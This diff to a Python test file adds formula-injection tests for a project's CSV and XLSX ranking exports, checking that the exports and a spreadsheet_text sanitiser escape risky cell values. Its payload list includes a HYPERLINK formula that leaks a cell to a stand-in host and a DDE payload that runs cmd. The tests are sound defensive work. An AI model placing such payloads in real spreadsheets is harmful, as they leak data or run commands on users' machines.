@@ -594,7 +594,7 @@ def test_file_sha256_and_describe_input(tmp_path: Path) -> None:
     assert describe_input(path, source="s", licence="l", attribution="a", version="2024-05-01")[
         "version"
     ] == "2024-05-01"
-    with pytest.raises(InputError, match="missing.osm"):
+    with pytest.raises(InputError, match=r"missing\.osm"):
         file_sha256(tmp_path / "missing.osm")
 
 
@@ -635,3 +635,74 @@ def test_workbook_keeps_the_best_rows_when_a_sheet_exceeds_excel(
     assert [r[0] for r in rows[1:]] == [1, 2, 3]
     notes = list(book["notes"].values)
     assert notes[1][0] == "ranking" and "10 rows" in notes[1][1]
+
+
+# --- formula injection (issue #16) --------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=2+2",
+    "\r=2+2",
+    "\uff1d1+1",
+]
+
+
+def test_text_that_looks_like_a_formula_is_text_in_csv_and_xlsx(
+    tmp_path: Path, manifest: dict[str, Any]
+) -> None:
+    ids = [*FORMULAS, "-12.5", "http://example.invalid/x"]
+    sites = make_sites("GM0503", 85000, 447000, [0.9 - 0.05 * i for i in range(len(ids))],
+                       [False] * len(ids))
+    sites["site_id"] = ids
+    sites.loc[0, "reasons_en"] = "=1+1"
+    write_national_ranking(tmp_path, sites, manifest=manifest, method=METHOD)
+
+    book = openpyxl.load_workbook(tmp_path / "national_ranking.xlsx")  # not read-only: types
+    try:
+        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+        formulas = [c.coordinate for c in cells if c.data_type == "f"]
+        links = [c.coordinate for c in cells if c.hyperlink is not None]
+        ranking = [[c.value for c in row] for row in book["ranking"].iter_rows()]
+    finally:
+        book.close()
+    assert formulas == [] and links == []
+    header = ranking[0]
+    column = {name: [row[header.index(name)] for row in ranking[1:]] for name in header}
+    # xlsx stores a CR as the escape _x000D_ (ECMA-376), which openpyxl leaves as it is
+    shown = {v.replace("_x000D_", "\r") for v in column["site_id"]}
+    for text in FORMULAS:
+        assert "'" + text in shown, text
+    assert "-12.5" in shown and "http://example.invalid/x" in shown  # no formula: as it was
+    assert "'=1+1" in column["reasons_en"]
+    # numbers stay numbers
+    assert all(isinstance(v, int) for v in column["rank_nl"])
+    assert all(isinstance(v, float) for v in column["score_total"])
+
+    with (tmp_path / "national_ranking.csv").open(encoding="utf-8", newline="") as fh:
+        import csv
+
+        rows = list(csv.reader(fh))
+    head, body = rows[0], rows[1:]
+    for row in body:
+        for value in row:
+            assert not value.startswith(("=", "+", "@", "\t", "\r", "\uff1d")), value
+            if value.startswith("-"):
+                float(value)  # a negative number, not a formula
+    texts = {row[head.index("site_id")] for row in body}
+    assert {"'" + t for t in FORMULAS} <= texts and "-12.5" in texts
+    scores = [float(row[head.index("score_total")]) for row in body]
+    assert scores == sorted(scores, reverse=True)
+
+
+def test_spreadsheet_text() -> None:
+    from magicmix_geo.publish.cells import spreadsheet_text
+
+    assert spreadsheet_text("=1+1") == "'=1+1"
+    assert spreadsheet_text("-1+1") == "'-1+1"
+    assert spreadsheet_text("-1") == "-1" and spreadsheet_text("+3.5e2") == "+3.5e2"
+    assert spreadsheet_text("Delft, Wippolder") == "Delft, Wippolder"
+    assert spreadsheet_text("'=already") == "'=already"
+    assert spreadsheet_text("") == ""
